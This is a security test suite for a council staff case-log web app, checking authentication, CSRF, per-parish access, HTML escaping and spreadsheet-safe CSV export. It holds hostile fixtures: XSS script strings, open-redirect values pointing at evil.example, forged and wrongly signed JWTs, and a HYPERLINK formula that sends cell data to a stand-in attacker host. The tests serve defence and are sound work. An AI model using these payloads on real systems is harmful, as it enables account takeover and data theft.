import { generateKeyPairSync } from "node:crypto";
import type { APIGatewayProxyStructuredResultV2 } from "aws-lambda";
import { beforeAll, describe, expect, it } from "vitest";
import { systemIds } from "#adapters/system/system-ids.js";
import type { Case } from "#core/case/case.js";
import { event as timelineEvent } from "#core/case/timeline.js";
import type { DispatchJob } from "#core/ports/queue.js";
import { createDeadLetterCases } from "#core/use-cases/redrive.js";
import { createStaffActions } from "#core/use-cases/staff-actions.js";
import { caseLogRoutes } from "../../functions/http/case-log/case-log-routes.js";
import { signRs256 } from "../../functions/local/identity-provider.js";
import {
  caseLogUnderTest,
  httpsStaffCookie,
  speedingCase,
  staffAndClerk,
} from "../helpers/case-log-harness.js";
import { MemoryCaseStore } from "../helpers/memory-case-store.js";

// The case log's front door, by invoking its handler: every route but sign-in/sign-out needs a
// valid staff token (pages redirect, data answers 401), and forged, expired and wrongly-signed
// tokens are refused like none at all. Then the list and case pages for signed-in staff.

const PARISH = { kind: "parish" as const, code: "E04999001", name: "Ashcombe" };
const DISTRICT = { kind: "district" as const, code: "E07999999", name: "Exampleshire Vale" };
const OTHER = { kind: "parish" as const, code: "E04999002", name: "Brookfield" };

const store = new MemoryCaseStore();
const queued: DispatchJob[] = [];
const queue = { send: async (job: DispatchJob) => void queued.push(job) };
const clock = { now: () => new Date() };
const signedOut = new Set<string>();

const caseLog = caseLogUnderTest(staffAndClerk(PARISH.code), () => ({
  signedOut: {
    add: async (id) => void signedOut.add(id),
    has: async (id) => signedOut.has(id),
  },
  caseStore: store,
  actions: createStaffActions({ caseStore: store, clock, ids: systemIds, queue }),
  redrive: createDeadLetterCases({ caseStore: store, clock, queue }).redrive,
  clock,
  geography: async () => ({ bodies: new Map(), areas: [DISTRICT, PARISH, OTHER] }),
  pageSize: 2,
}));

beforeAll(async () => {
  await store.create(aCase("SPD-AAAA-AAA4", PARISH, "2026-11-20T09:00:00.000Z"), [
    // A type whose stored summary is shown as it is.
    timelineEvent(new Date("2026-11-20T09:00:00Z"), "signposted", "Report <b>received</b>"),
  ]);
  await store.create(aCase("SPD-AAAA-AAB2", OTHER, "2026-11-21T09:00:00.000Z"), []);
  await store.create(aCase("SPD-AAAA-AACY", PARISH, "2026-11-22T09:00:00.000Z"), []);
});

const aCase = (reference: string, destination: Case["destination"], createdAt: string): Case =>
  speedingCase(reference, destination, createdAt, {
    location: { lat: 54.5, lng: 2.3, postcode: "ZX1 5ZB" },
    description: `<script>alert("${reference}")</script> & speeding`,
    reporter: { name: "Ada <i>Resident</i>", email: "ada@example.org", shareWithParish: false },
  });

const { call, signIn } = caseLog;

const cookieValue = (response: APIGatewayProxyStructuredResultV2, name: string) =>
  response.cookies?.find((c) => c.startsWith(`${name}=`));

const nowSeconds = () => Math.floor(Date.now() / 1000);
const goodClaims = () => ({
  sub: "00000000-0000-4000-a000-000000000009",
  iss: caseLog.idp.issuer,
  aud: caseLog.idp.clientId,
  token_use: "id",
  "cognito:groups": ["staff"],
  jti: "11111111-2222-4333-8444-555555555555",
  iat: nowSeconds(),
  exp: nowSeconds() + 600,
});

const badTokens: Array<[string, () => string]> = [
  [
    "expired",
    () => caseLog.idp.signJwt({ ...goodClaims(), iat: nowSeconds() - 7200, exp: nowSeconds() - 60 }),
  ],
  [
    "wrongly signed",
    () =>
      signRs256(
        goodClaims(),
        generateKeyPairSync("rsa", { modulusLength: 2048 }).privateKey,
        caseLog.idp.jwks().keys[0]?.kid as string,
      ),
  ],
  [
    "forged (payload edited)",
    () => {
      const [h, , s] = caseLog.idp.signJwt({ ...goodClaims(), "cognito:groups": [] }).split(".");
      return `${h}.${Buffer.from(JSON.stringify(goodClaims())).toString("base64url")}.${s}`;
    },
  ],
  ["an access token", () => caseLog.idp.signIn("staff@example.org", "staff-password")?.accessToken ?? ""],
  ["garbage", () => "abc"],
];

describe("every case-log route is protected", () => {
  const PUBLIC = [
    "GET /staff/sign-in",
    "POST /staff/sign-in",
    "GET /staff/sign-in/new-password",
    "POST /staff/sign-in/new-password",
    "GET /staff/sign-in/code",
    "POST /staff/sign-in/code",
    "GET /staff/sign-in/set-up-app",
    "POST /staff/sign-in/set-up-app",
    "POST /staff/sign-out",
  ];

  it("has only the sign-in steps and sign-out public", () => {
    const open = caseLogRoutes.filter((r) => r.access === "public").map((r) => `${r.method} ${r.example}`);
    expect(open).toEqual(PUBLIC);
  });

  const protectedRoutes = caseLogRoutes
    .filter((r) => r.access !== "public")
    .map((r) => [`${r.method} ${r.example}`, r] as const);

  it.each(protectedRoutes)("%s refuses a request with no session", async (_, route) => {
    expect(route.pattern.test(route.example)).toBe(true);
    const response = await call({ method: route.method, path: route.example });
    if (route.kind === "page") {
      expect(response.statusCode).toBe(303);
      // A page asks for sign-in and remembers itself (only GET pages: a POST is not replayed).
      const back = route.method === "GET" && route.example !== "/staff" ? route.example : undefined;
      expect(response.headers?.location).toBe(
        back ? `/staff/sign-in?return=${encodeURIComponent(back)}` : "/staff/sign-in",
      );
    } else {
      expect(response.statusCode).toBe(401);
    }
    expect(response.body ?? "").not.toContain("SPD-AAAA");
  });

  describe.each(badTokens)("a token that is %s", (_, make) => {
    it.each(protectedRoutes)("is refused by %s, and the cookie cleared", async (__, route) => {
      const response = await call({
        method: route.method,
        path: route.example,
        cookies: { [httpsStaffCookie.session]: make() },
      });
      expect(response.statusCode).toBe(route.kind === "page" ? 303 : 401);
      expect(cookieValue(response, httpsStaffCookie.session)).toMatch(/Max-Age=0/);
    });
  });

  it("asks for sign-in before saying a /staff page does not exist", async () => {
    const response = await call({ path: "/staff/secret-admin" });
    expect(response.statusCode).toBe(303);
  });
});

describe("sign-in and sign-out", () => {
  it("refuses a sign-in without the CSRF token", async () => {
    const response = await call({
      method: "POST",
      path: "/staff/sign-in",
      form: { email: "staff@example.org", password: "staff-password" },
    });
    expect(response.statusCode).toBe(403);
    expect(cookieValue(response, httpsStaffCookie.session)).toBeUndefined();
  });

  it("refuses a wrong password with one message for every reason", async () => {
    const { response } = await signIn("staff@example.org", "not-it");
    expect(response.statusCode).toBe(400);
    expect(response.body).toContain(
      "Check your email address and password. If they are right, wait 15 minutes",
    );
    expect(response.body).toContain('value="staff@example.org"');
    expect(cookieValue(response, httpsStaffCookie.session)).toBeUndefined();
  });

  it("sets a __Host- (Secure, Path=/, no Domain), HttpOnly, SameSite=Strict session cookie that expires with the token", async () => {
    const { response } = await signIn("staff@example.org", "staff-password");
    expect(response.statusCode).toBe(303);
    expect(response.headers?.location).toBe("/staff/cases");
    const cookie = cookieValue(response, httpsStaffCookie.session) ?? "";
    expect(cookie).toMatch(/; HttpOnly/);
    expect(cookie).toMatch(/; Secure/);
    expect(cookie).toMatch(/; SameSite=Strict/);
    expect(cookie).toMatch(/^__Host-signpost_case_log_session=[^;]+; Path=\/;/);
    expect(cookie).not.toMatch(/Domain=/i);
    const maxAge = Number(/Max-Age=(\d+)/.exec(cookie)?.[1]);
    expect(maxAge).toBeGreaterThan(3500);
    expect(maxAge).toBeLessThanOrEqual(3600);
  });

  it("signs out, without an error, someone whose session is under a name from before __Host-", async () => {
    const { session } = await signIn("staff@example.org", "staff-password");
    for (const old of ["signpost_staff_session", "signpost_case_log_session"]) {
      const response = await call({ path: "/staff/cases", cookies: { [old]: session } });
      expect(response.statusCode, old).toBe(303);
      expect(response.headers?.location, old).toBe("/staff/sign-in?return=%2Fstaff%2Fcases");
    }
    expect(
      (await call({ path: "/staff/cases", cookies: { [httpsStaffCookie.session]: session } })).statusCode,
    ).toBe(200);
  });

  it("signs out: the cookie is cleared", async () => {
    const { cookies, csrf } = await signIn("staff@example.org", "staff-password");
    const response = await call({ method: "POST", path: "/staff/sign-out", cookies, form: { _csrf: csrf } });
    expect(response.statusCode).toBe(303);
    expect(cookieValue(response, httpsStaffCookie.session)).toMatch(
      /^__Host-signpost_case_log_session=; Path=\/; Max-Age=0/,
    );
    // The old cookie, replayed, no longer opens anything.
    expect((await call({ path: "/staff/cases", cookies })).statusCode).toBe(303);
  });

  it.each(["/staff/sign-in/new-password", "/staff/sign-in/code", "/staff/sign-in/set-up-app"])(
    "%s without a pending sign-in (or with a tampered one) goes back to sign-in",
    async (path) => {
      for (const challenge of [
        undefined,
        "not-base64-json",
        Buffer.from('{"c":"OTHER"}').toString("base64url"),
      ]) {
        const response = await call({
          path,
          cookies: challenge ? { [httpsStaffCookie.challenge]: challenge } : {},
        });
        expect(response.statusCode).toBe(303);
        expect(response.headers?.location).toBe("/staff/sign-in?timed-out=1");
      }
    },
  );

  it("goes back to the page asked for after signing in, and only to a case-log page", async () => {
    const asked = await call({ path: "/staff/cases/SPD-AAAA-AAA4" });
    const signInUrl = new URL(asked.headers?.location ?? "", "https://signpost.example.org");
    const page = await call({ path: signInUrl.pathname, query: signInUrl.search.slice(1) });
    const csrf = /name="_csrf" value="([a-f0-9]{64})"/.exec(page.body ?? "")?.[1] ?? "";
    const returnTo = /name="return" value="([^"]+)"/.exec(page.body ?? "")?.[1];
    expect(returnTo).toBe("/staff/cases/SPD-AAAA-AAA4");
    const signInWith = (value: string) =>
      call({
        method: "POST",
        path: "/staff/sign-in",
        cookies: { [httpsStaffCookie.csrf]: csrf },
        form: { _csrf: csrf, email: "staff@example.org", password: "staff-password", return: value },
      });
    expect((await signInWith(returnTo ?? "")).headers?.location).toBe("/staff/cases/SPD-AAAA-AAA4");
    expect((await signInWith("/staff/cases?status=new&sentTo=parishes")).headers?.location).toBe(
      "/staff/cases?status=new&sentTo=parishes",
    );
    for (const hostile of [
      "https://evil.example/",
      "//evil.example/staff/cases",
      "/staff/cases/../../evil",
      "/\\evil.example",
      "/staff/sign-out",
      "/staff/cases?x=1 https://evil.example",
      "javascript:alert(1)",
      "/staff/cases?\u0000",
      "/staff/cases?x=\u2603",
    ]) {
      expect((await signInWith(hostile)).headers?.location, hostile).toBe("/staff/cases");
    }
  });

  it("validates the sign-in form before asking Cognito", async () => {
    const first = await call({ path: "/staff/sign-in" });
    const csrf = /name="_csrf" value="([a-f0-9]{64})"/.exec(first.body ?? "")?.[1] ?? "";
    const response = await call({
      method: "POST",
      path: "/staff/sign-in",
      cookies: { [httpsStaffCookie.csrf]: csrf },
      form: { _csrf: csrf, email: "not an email", password: "" },
    });
    expect(response.statusCode).toBe(400);
    expect(response.body).toContain("Enter an email address in the correct format");
    expect(response.body).toContain("Enter your password");
  });
});

describe("list and case pages", () => {
  it("checks the date filter and says what is wrong, as the GOV.UK date pattern does", async () => {
    const { cookies } = await signIn("staff@example.org", "staff-password");
    const cases: Array<[string, string]> = [
      ["from-day=30&from-month=2&from-year=2026", "Received from must be a real date"],
      ["from-day=3&from-year=2026", "Received from must include a month"],
      [
        "from-day=3&from-month=11&from-year=2026&to-day=2&to-month=11&to-year=2026",
        "Received to must be the same as or after received from",
      ],
    ];
    for (const [query, message] of cases) {
      const page = await call({ path: "/staff/cases", query, cookies });
      expect(page.statusCode).toBe(400);
      expect(page.body).toContain(message);
      expect((await call({ path: "/staff/cases.csv", query, cookies })).statusCode).toBe(400);
    }
    const ok = await call({
      path: "/staff/cases",
      query: "from-day=21&from-month=11&from-year=2026&to-day=21&to-month=11&to-year=2026",
      cookies,
    });
    expect([...(ok.body ?? "").matchAll(/>(SPD-AAAA-[A-Z0-9]{4})</g)].map((m) => m[1])).toEqual([
      "SPD-AAAA-AAB2",
    ]);
  });

  it("lists cases newest first, a page at a time, with counts", async () => {
    const { cookies } = await signIn("staff@example.org", "staff-password");
    const first = await call({ path: "/staff/cases", cookies });
    expect(first.statusCode).toBe(200);
    expect(first.headers?.["content-security-policy"]).toContain("frame-ancestors 'none'");
    const refs = (body: string) => [...body.matchAll(/>(SPD-AAAA-[A-Z0-9]{4})</g)].map((m) => m[1]);
    expect(refs(first.body ?? "")).toEqual(["SPD-AAAA-AACY", "SPD-AAAA-AAB2"]);
    expect(first.body).toMatch(/New<\/a>: <strong>3<\/strong>/);
    const next = /href="\/staff\/cases\?after=([^"]+)"/.exec(first.body ?? "")?.[1] ?? "";
    const second = await call({ path: "/staff/cases", query: `after=${next}`, cookies });
    expect(refs(second.body ?? "")).toEqual(["SPD-AAAA-AAA4"]);
    const filtered = await call({ path: "/staff/cases", query: `sentTo=${OTHER.code}`, cookies });
    expect(refs(filtered.body ?? "")).toEqual(["SPD-AAAA-AAB2"]);
  });

  it("shows a case with everything escaped", async () => {
    const { cookies } = await signIn("staff@example.org", "staff-password");
    const response = await call({ path: "/staff/cases/SPD-AAAA-AAA4", cookies });
    expect(response.statusCode).toBe(200);
    const body = response.body ?? "";
    expect(body).not.toContain("<script>alert");
    expect(body).toContain("&lt;script&gt;alert(&quot;SPD-AAAA-AAA4&quot;)&lt;/script&gt; &amp; speeding");
    expect(body).toContain("Ada &lt;i&gt;Resident&lt;/i&gt;");
    expect(body).toContain("Report &lt;b&gt;received&lt;/b&gt;");
  });

  it("answers 404 for an unknown reference", async () => {
    const { cookies } = await signIn("staff@example.org", "staff-password");
    expect((await call({ path: "/staff/cases/SPD-ZZZZ-ZZZ9", cookies })).statusCode).toBe(404);
  });

  it("answers a page that does not exist with a 404 that still offers sign-out", async () => {
    const { cookies } = await signIn("staff@example.org", "staff-password");
    const response = await call({ path: "/staff/nope", cookies });
    expect(response.statusCode).toBe(404);
    expect(response.body).toContain('action="/staff/sign-out"');
  });

  it("shows a clerk only their parish: another parish's case is not found", async () => {
    const { cookies } = await signIn("clerk@example.org", "clerk-password");
    const list = await call({ path: "/staff/cases", query: `sentTo=${OTHER.code}`, cookies });
    expect(list.body).not.toContain("SPD-AAAA-AAB2");
    expect(list.body).toContain("SPD-AAAA-AACY");
    expect((await call({ path: "/staff/cases/SPD-AAAA-AAB2", cookies })).statusCode).toBe(404);
    const own = await call({ path: "/staff/cases/SPD-AAAA-AAA4", cookies });
    expect(own.statusCode).toBe(200);
    // The resident did not agree to share their details with the parish.
    expect(own.body).not.toContain("ada@example.org");
    expect((await call({ path: "/staff/cases/counts.json", cookies })).statusCode).toBe(403);
  });
});

describe("actions and export", () => {
  const REF = "SPD-AAAA-AADW";
  beforeAll(async () => {
    await store.create(
      {
        ...aCase(REF, PARISH, "2026-11-23T09:00:00.000Z"),
        description: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      },
      [],
    );
  });

  const eventsOf = async (type: string) => (await store.timeline(REF)).filter((e) => e.type === type);

  it("changes status with a reason, once, recording who did it", async () => {
    const { cookies, csrf } = await signIn("staff@example.org", "staff-password");
    const post = () =>
      call({
        method: "POST",
        path: `/staff/cases/${REF}/status`,
        cookies,
        form: { _csrf: csrf, status: "in-progress", reason: "Passed to the speedwatch team" },
      });
    const first = await post();
    expect(first.statusCode).toBe(303);
    expect(first.headers?.location).toBe(`/staff/cases/${REF}?done=status`);
    expect((await store.get(REF))?.status).toBe("in-progress");
    await post();
    const changes = await eventsOf("status-changed");
    expect(changes).toHaveLength(1);
    expect(changes[0]?.actor).toBe("staff@example.org");
    expect(changes[0]?.summary).toContain("Passed to the speedwatch team");
  });

  it("asks for a reason", async () => {
    const { cookies, csrf } = await signIn("staff@example.org", "staff-password");
    const response = await call({
      method: "POST",
      path: `/staff/cases/${REF}/status`,
      cookies,
      form: { _csrf: csrf, status: "closed", reason: " " },
    });
    expect(response.statusCode).toBe(400);
    expect(response.body).toContain("Enter the reason for the change");
    expect((await store.get(REF))?.status).toBe("in-progress");
  });

  it("adds a note once however often the form is sent", async () => {
    const { cookies, csrf } = await signIn("staff@example.org", "staff-password");
    const page = await call({ path: `/staff/cases/${REF}`, cookies });
    const key = /name="_key" value="([0-9a-f-]{36})"/.exec(page.body ?? "")?.[1] ?? "";
    for (let i = 0; i < 2; i++) {
      const response = await call({
        method: "POST",
        path: `/staff/cases/${REF}/notes`,
        cookies,
        form: { _csrf: csrf, _key: key, note: "Rang the clerk <b>twice</b>" },
      });
      expect(response.statusCode).toBe(303);
    }
    expect(await eventsOf("note")).toHaveLength(1);
    const after = await call({ path: `/staff/cases/${REF}`, cookies });
    expect(after.body).toContain("Rang the clerk &lt;b&gt;twice&lt;/b&gt;");
  });

  it("refuses an action without the CSRF token", async () => {
    const { cookies } = await signIn("staff@example.org", "staff-password");
    const response = await call({
      method: "POST",
      path: `/staff/cases/${REF}/status`,
      cookies,
      form: { status: "closed", reason: "forged" },
    });
    expect(response.statusCode).toBe(403);
    expect((await store.get(REF))?.status).toBe("in-progress");
  });

  it("shows a clerk the case's history but not the district's notes or officers", async () => {
    const { cookies, csrf } = await signIn("clerk@example.org", "clerk-password");
    const page = await call({ path: `/staff/cases/${REF}`, cookies });
    const key = /name="_key" value="([0-9a-f-]{36})"/.exec(page.body ?? "")?.[1] ?? "";
    await call({
      method: "POST",
      path: `/staff/cases/${REF}/notes`,
      cookies,
      form: { _csrf: csrf, _key: key, note: "Clerk's own note" },
    });
    const body = (await call({ path: `/staff/cases/${REF}`, cookies })).body ?? "";
    // Staff did not mark the reason for the parish: the clerk sees the change, not why.
    expect(body).toContain("Status changed to In progress");
    expect(body).not.toContain("Passed to the speedwatch team");
    expect(body).toContain("Council staff");
    expect(body).not.toContain("staff@example.org");
    expect(body).not.toContain("Rang the clerk");
    expect(body).toContain("Clerk&#39;s own note");
    // District staff see the clerk's note, and who wrote it.
    const staff = await signIn("staff@example.org", "staff-password");
    const staffView = (await call({ path: `/staff/cases/${REF}`, cookies: staff.cookies })).body ?? "";
    expect(staffView).toContain("Clerk&#39;s own note");
    expect(staffView).toContain("clerk@example.org");
  });

  it("refuses a form posted from another site, even with a planted CSRF cookie", async () => {
    const { cookies, csrf } = await signIn("staff@example.org", "staff-password");
    for (const headers of <Record<string, string>[]>[
      { origin: "https://evil.example", host: "signpost.example.org" },
      { "sec-fetch-site": "same-site" },
      { "sec-fetch-site": "cross-site" },
      { origin: "null", host: "signpost.example.org" },
    ]) {
      const response = await call({
        method: "POST",
        path: `/staff/cases/${REF}/status`,
        cookies,
        headers,
        form: { _csrf: csrf, status: "closed", reason: "forged" },
      });
      expect(response.statusCode).toBe(403);
    }
    expect((await store.get(REF))?.status).toBe("in-progress");
    // The same form from this site goes through the CSRF check.
    const ok = await call({
      method: "POST",
      path: `/staff/cases/${REF}/notes`,
      cookies,
      headers: {
        origin: "https://signpost.example.org",
        host: "signpost.example.org",
        "sec-fetch-site": "same-origin",
      },
      form: { _csrf: csrf, _key: "00000000-0000-4000-a000-00000000abcd", note: "From this site" },
    });
    expect(ok.statusCode).toBe(303);
  });

  it("does not let a clerk act on another parish's case", async () => {
    const { cookies, csrf } = await signIn("clerk@example.org", "clerk-password");
    const response = await call({
      method: "POST",
      path: "/staff/cases/SPD-AAAA-AAB2/notes",
      cookies,
      form: { _csrf: csrf, _key: "00000000-0000-4000-a000-000000000000", note: "x" },
    });
    expect(response.statusCode).toBe(404);
  });

  it("exports the filter as spreadsheet-safe CSV without residents' details", async () => {
    const { cookies } = await signIn("staff@example.org", "staff-password");
    const response = await call({ path: "/staff/cases.csv", query: `sentTo=${PARISH.code}`, cookies });
    expect(response.statusCode).toBe(200);
    expect(response.headers?.["content-type"]).toBe("text/csv; charset=utf-8");
    expect(response.headers?.["content-disposition"]).toContain("attachment");
    const lines = (response.body ?? "").trim().split("\r\n");
    expect(lines).toHaveLength(4);
    expect(lines[1]).toContain(`"${REF}"`);
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(response.body).not.toContain("ada@example.org");
    expect(response.body).not.toContain("SPD-AAAA-AAB2");
  });

  it("re-routes a case to the district, once confirmed with a reason, and queues it to be sent again once", async () => {
    const { cookies, csrf } = await signIn("staff@example.org", "staff-password");
    const page = await call({ path: `/staff/cases/${REF}`, cookies });
    expect(page.body).toContain('id="reroute"');
    // The case page's choice opens the confirmation page, which changes nothing.
    const confirm = await call({
      path: `/staff/cases/${REF}/reroute`,
      query: `destination=${DISTRICT.code}`,
      cookies,
    });
    expect(confirm.statusCode).toBe(200);
    expect((await store.get(REF))?.destination).toEqual(PARISH);
    const before = queued.length;
    for (let i = 0; i < 2; i++) {
      const response = await call({
        method: "POST",
        path: `/staff/cases/${REF}/reroute`,
        cookies,
        form: { _csrf: csrf, destination: DISTRICT.code, from: PARISH.code, reason: "The clerk is away" },
      });
      expect(response.statusCode).toBe(303);
      expect(response.headers?.location).toBe(`/staff/cases/${REF}?done=rerouted`);
    }
    const after = await store.get(REF);
    expect(after?.destination).toEqual(DISTRICT);
    expect(after?.delivery).toBe("queued");
    expect(queued.slice(before)).toEqual([{ reference: REF }]);
    expect(await eventsOf("rerouted")).toHaveLength(1);
  });

  it("re-drives a failed case, and only a failed or unconfirmed one", async () => {
    const { cookies, csrf } = await signIn("staff@example.org", "staff-password");
    const ref = "SPD-AAAA-AAET";
    await store.create({ ...aCase(ref, PARISH, "2026-11-23T10:00:00.000Z"), delivery: "failed" }, []);
    // Staff find it by the email filter, tagged "Not sent".
    const needing = await call({ path: "/staff/cases", query: "email=not-sent", cookies });
    expect([...(needing.body ?? "").matchAll(/>(SPD-[A-Z0-9]{4}-[A-Z0-9]{4})</g)].map((m) => m[1])).toEqual([
      ref,
    ]);
    expect(needing.body).toContain('<strong class="govuk-tag govuk-tag--red">Not sent</strong>');
    const page = await call({ path: `/staff/cases/${ref}`, cookies });
    expect(page.body).toContain("Send the email again");
    const before = queued.length;
    const post = () =>
      call({ method: "POST", path: `/staff/cases/${ref}/redrive`, cookies, form: { _csrf: csrf } });
    const first = await post();
    expect(first.statusCode).toBe(303);
    expect(first.headers?.location).toBe(`/staff/cases/${ref}?done=sent-again`);
    // Sent again while already queued: nothing to do, so no banner.
    expect((await post()).headers?.location).toBe(`/staff/cases/${ref}`);
    expect(queued.slice(before)).toEqual([{ reference: ref }]);
    expect((await store.get(ref))?.delivery).toBe("queued");
    const again = await call({ path: `/staff/cases/${ref}`, cookies });
    expect(again.body).not.toContain("Send the email again");
  });
});

describe("a large export", () => {
  beforeAll(async () => {
    for (const [i, ref] of ["SPD-BBBB-BBB1", "SPD-BBBB-BBB2", "SPD-BBBB-BBB3"].entries()) {
      await store.create(
        { ...aCase(ref, OTHER, `2020-01-0${i + 1}T09:00:00.000Z`), description: "x".repeat(2_000_000) },
        [],
      );
    }
  });

  it("stops before Lambda's response limit and says so in the file name", async () => {
    const { cookies } = await signIn("staff@example.org", "staff-password");
    const response = await call({ path: "/staff/cases.csv", query: `sentTo=${OTHER.code}`, cookies });
    expect(response.statusCode).toBe(200);
    expect(Buffer.byteLength(response.body ?? "")).toBeLessThan(6 * 1024 * 1024);
    expect(response.headers?.["content-disposition"]).toMatch(
      /filename="cases-brookfield-newest-\d+-only\.csv"/,
    );
    const complete = await call({ path: "/staff/cases.csv", query: `sentTo=${PARISH.code}`, cookies });
    expect(complete.headers?.["content-disposition"]).toContain('filename="cases-ashcombe.csv"');
  });
});
